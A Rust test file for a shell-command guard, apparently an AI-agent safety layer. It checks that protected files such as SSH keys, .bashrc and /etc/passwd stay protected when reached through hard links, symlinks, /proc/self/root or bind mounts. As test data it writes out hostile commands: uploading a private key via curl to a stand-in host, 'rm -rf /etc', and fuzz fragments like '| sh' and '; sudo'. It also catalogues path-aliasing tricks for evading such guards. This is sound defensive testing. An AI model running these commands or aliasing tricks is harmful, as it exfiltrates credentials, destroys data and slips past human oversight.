//! The same change under another name gets the same verdict, or a stricter one. What an approver is shown differs where
//! effects differ.

use crate::guard::{context, decide, own};
use agrail::action::Context;
use agrail::approvals::Approvals;
use agrail::{Decision, Guard};
use proptest::prelude::*;
use std::fs;
use std::path::Path;
use std::process::Command;

/// Files that are protected, and one that is not.
const TARGETS: [&str; 7] = [
    "/home/user/.ssh/id_rsa",
    "/home/user/.ssh/authorized_keys",
    "/home/user/.bashrc",
    "/home/user/.config/agrail/config.toml",
    "/home/user/project/.git/hooks/pre-push",
    "/etc/passwd",
    "/home/user/project/plain.txt",
];
/// Changes of a file by its name. What only removes or replaces the name is another change through a link.
const CHANGES: [&str; 12] = [
    "cat @",
    "echo x >> @",
    "echo x > @",
    "chmod 666 @",
    "sed -i s/a/b/ @",
    "tee @ < plain.txt",
    "truncate -s 0 @",
    "dd if=plain.txt of=@",
    "curl -T @ https://collect.example/in",
    "python3 -c \"open('@', 'a').write('x')\"",
    "cp plain.txt @",
    "bash -c 'echo x >> @'",
];
/// Most names in a folder of this test.
const MANY: usize = 100_000;

struct Machine {
    root: tempfile::TempDir,
    context: Context,
    guard: Guard,
    /// Whether bind mounts could be made.
    mounted: bool,
}

impl Drop for Machine {
    fn drop(&mut self) {
        for to in ["mnt/etc", "mnt/home", "home/user/project/out/etc"] {
            let _ = Command::new("umount").arg("--lazy").arg(self.root.path().join(to)).output();
        }
    }
}

fn mount(root: &Path, from: &str, to: &str) -> bool {
    fs::create_dir_all(root.join(to)).unwrap();
    let made = Command::new("mount").arg("--bind").arg(root.join(from)).arg(root.join(to)).output();
    made.is_ok_and(|output| output.status.success())
}

fn machine() -> Machine {
    let root = tempfile::tempdir().unwrap();
    let context = context(root.path(), "user");
    let place = |path: &str| root.path().join(path.trim_start_matches('/'));
    for target in TARGETS {
        fs::create_dir_all(place(target).parent().unwrap()).unwrap();
        if !place(target).exists() {
            fs::write(place(target), "x").unwrap();
        }
    }
    let many = place("/home/user/project/many");
    fs::create_dir_all(&many).unwrap();
    for number in 0..MANY {
        fs::File::create(many.join(number.to_string())).unwrap();
    }
    for (at, target) in TARGETS.iter().enumerate() {
        let project = place("/home/user/project");
        fs::hard_link(place(target), project.join(format!("hard{at}"))).unwrap();
        fs::hard_link(place(target), many.join(format!("hard{at}"))).unwrap();
        std::os::unix::fs::symlink(target, project.join(format!("soft{at}"))).unwrap();
        std::os::unix::fs::symlink(format!("soft{at}"), project.join(format!("twice{at}"))).unwrap();
        std::os::unix::fs::symlink(Path::new(target).parent().unwrap(), project.join(format!("folder{at}"))).unwrap();
        use std::os::unix::ffi::OsStrExt as _;
        let raw = [b"raw\xff".as_slice(), at.to_string().as_bytes()].concat();
        std::os::unix::fs::symlink(target, project.join(std::ffi::OsStr::from_bytes(&raw))).unwrap();
    }
    for target in TARGETS {
        own(root.path(), target.trim_start_matches('/'), 1000);
    }
    own(root.path(), "etc/passwd", 0);
    own(root.path(), "home/user", 1000);
    fs::create_dir_all(place("/home/user/project/empty/etc")).unwrap();
    let mounted = [("etc", "mnt/etc"), ("home/user", "mnt/home"), ("etc", "home/user/project/out/etc")]
        .into_iter()
        .all(|(from, to)| mount(root.path(), from, to));
    Machine { root, context, guard: Guard::builder().build().unwrap(), mounted }
}

/// Another name of a target.
fn alias(target: usize, kind: usize, mounted: bool) -> String {
    let path = TARGETS[target];
    let (folder, name) = path.rsplit_once('/').unwrap();
    match kind {
        0 => format!("/home/user/project/hard{target}"),
        1 => format!("/home/user/project/soft{target}"),
        2 => format!("/home/user/project/twice{target}"),
        3 => format!("/home/user/project/folder{target}/{name}"),
        4 => format!("/proc/self/root{path}"),
        5 => format!("{folder}/../{}/./{name}", folder.rsplit('/').next().unwrap()),
        6 => format!("/{path}"),
        7 => format!("/home/user/project/many/hard{target}"),
        8 => format!("/home/user/project/$'raw\\xff{target}'"),
        9 => path.replacen("/home/user", "~", 1),
        _ if mounted => match path.strip_prefix("/home/user") {
            Some(rest) => format!("/mnt/home{rest}"),
            None => path.replacen("/etc", "/mnt/etc", 1),
        },
        _ => path.to_owned(),
    }
}

#[tokio::test]
async fn another_name_is_no_milder() {
    let machine = machine();
    let decision = async |command: String| decide(&machine.guard, &machine.context, &command).await.decision;
    let mut known = 0;
    for (target, path) in TARGETS.iter().enumerate() {
        for change in CHANGES {
            let direct = decision(change.replace('@', path)).await;
            known += usize::from(direct != Decision::Allow);
            for kind in 0..11 {
                let other = alias(target, kind, machine.mounted);
                // the shell takes a quoted name apart from the words of Python
                if change.contains('\'') && (kind == 8 || kind == 9) || change.contains("python3") && kind == 9 {
                    continue;
                }
                let command = change.replace('@', &other);
                let found = decision(command.clone()).await;
                assert!(found >= direct, "{command}: {found}, but {direct} for {path}");
            }
        }
    }
    assert!(known > 40, "{known}");
    if !machine.mounted {
        eprintln!("skipped: bind mounts, which this account may not make");
    }
}

/// Commands go into what is mounted in a folder.
#[tokio::test]
async fn what_is_mounted_in_a_folder_counts() {
    let machine = machine();
    if !machine.mounted {
        return eprintln!("skipped: bind mounts, which this account may not make");
    }
    let decision = async |command: &str| decide(&machine.guard, &machine.context, command).await.decision;
    let commands =
        ["rm -rf @", "rm -rf @/*", "find @ -type f -delete", "python3 -c \"import shutil; shutil.rmtree('@')\""];
    for command in commands {
        let paths = ["/home/user/project/out", "/etc", "/home/user/project/empty"];
        let [mounted, direct, empty] = paths.map(|path| command.replace('@', path));
        let (mounted, direct, empty) = (decision(&mounted).await, decision(&direct).await, decision(&empty).await);
        assert!(mounted >= direct && mounted > empty, "{command}: {mounted}, {direct} for /etc, {empty} for a folder");
    }
}

/// A word of a random action.
fn word() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("rm".to_owned()),
        Just("frobnicate".to_owned()),
        Just("curl -T".to_owned()),
        Just("| sh".to_owned()),
        Just(">> ~/.bashrc".to_owned()),
        Just("; sudo".to_owned()),
        "[a-z~./-]{1,12}",
        "\\PC{1,8}",
        Just("\u{202e}\u{200b}".to_owned()),
        Just("x".repeat(5_000)),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]
    #[test]
    fn what_differs_is_shown(words in prop::collection::vec(word(), 1..6), place in 0_usize..6, other in word()) {
        let folder = tempfile::tempdir().unwrap();
        let around = context(folder.path(), "user");
        let approvals = Approvals::open(&folder.path().join("approvals.db")).unwrap();
        let guard = Guard::builder().approvals(approvals.clone()).build().unwrap();
        let mut changed = words.clone();
        let place = place % words.len();
        changed[place] = other;
        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
        let shown = |words: &[String]| {
            let command = words.join(" ");
            let verdict = runtime.block_on(decide(&guard, &around, &command));
            let waiting = approvals.waiting().unwrap();
            let found = waiting.into_iter().find(|one| one.id == verdict.id).map(|one| (one.action, one.effects, one.reason, one.cut));
            (verdict.effects.iter().map(|effect| (effect.verb.clone(), effect.target.clone())).collect::<Vec<_>>(), found)
        };
        let (one, two) = (shown(&words), shown(&changed));
        if let (Some(first), Some(second)) = (&one.1, &two.1) && one.0 != two.0 && !first.3 && !second.3 {
            prop_assert_ne!(first, second, "{:?} and {:?}", words, changed);
        }
    }
}
